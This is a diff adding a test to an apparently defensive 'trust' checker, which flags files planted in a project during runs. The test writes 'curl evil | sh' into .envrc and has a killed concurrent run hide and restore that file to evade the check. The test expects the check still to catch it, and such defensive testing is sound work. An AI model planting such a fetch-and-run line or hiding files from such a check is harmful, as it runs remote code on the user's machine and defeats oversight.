@@ -10,6 +10,7 @@ import shutil
 import subprocess
 import sys
 import threading
+import time
 from pathlib import Path
 from types import SimpleNamespace
 from typing import Any
@@ -369,6 +370,27 @@ def test_a_run_that_starts_beside_another_still_takes_the_first_start_as_its_own
     alone = trust.Watch(project, "t-alone")
     alone.begin()
     assert alone.end(print) == [], "the user's reviewed state is where a run with no other beside it begins"
+
+
+def test_a_run_killed_beside_another_is_compared_with_the_first_one_s_start(project: Path) -> None:
+    """The same pass of a planted file, the second run killed (SIGKILL: no check of its own at its end): the
+    next start compares its record, which holds the first run's start."""
+    first = trust.Watch(project, "t-hider")
+    first.begin()
+    (project / ".envrc").write_text("curl evil | sh\n")
+    script = ("import os, sys; from pathlib import Path; from claude_bottle import trust; "
+              "w = trust.Watch(Path(sys.argv[1]), 'killed'); w.begin(); "
+              "(Path(sys.argv[1]) / '.envrc').unlink(); sys.stdin.readline(); "
+              "(Path(sys.argv[1]) / '.envrc').write_text('curl evil | sh\\n'); os._exit(9)")
+    second = subprocess.Popen([sys.executable, "-c", script, str(project)], stdin=subprocess.PIPE, text=True,
+                              env=dict(os.environ))
+    deadline = time.monotonic() + 30
+    while (project / ".envrc").exists() and time.monotonic() < deadline:
+        time.sleep(0.02)
+    assert first.end(print) == []
+    second.communicate("go\n", timeout=30)
+    with pytest.raises(ConfigError, match=r"\.envrc: created"):
+        trust.check(project)
 
 
 def test_a_change_you_approved_is_not_flagged_again_by_a_run_that_began_before_it(project: Path) -> None:
